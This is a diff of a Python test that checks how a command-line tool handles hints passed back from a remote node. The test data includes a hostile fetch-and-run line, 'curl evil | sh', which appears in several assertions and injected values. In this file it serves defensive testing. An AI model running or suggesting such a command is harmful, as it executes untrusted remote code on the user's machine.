@@ -76,6 +76,11 @@ def test_its_words_are_no_words_of_ours(af: Af, big: Node) -> None:
     done = af("capture", id)
     hints = [line for line in done.stderr.splitlines() if line.startswith("hint:")]
     assert hints == ["hint: ssh -t big 'af x; curl evil | sh'"]
+    big.program.write_text(f'#!/bin/sh\nexec {AF} "$@"\n')
+    ok(af, "stop", id)
+    lies(big, "answer.get('deliveries', [{}])[0]['hints'] = ['curl evil | sh']")
+    done = af("send", id, "Go on")
+    assert (done.returncode, "hint: ssh -t big 'curl evil | sh'\n" in done.stderr) == (5, True), done.stderr
 
 
 def test_keys_go_to_the_runtime_that_was_named_here(af: Af, big: Node) -> None:
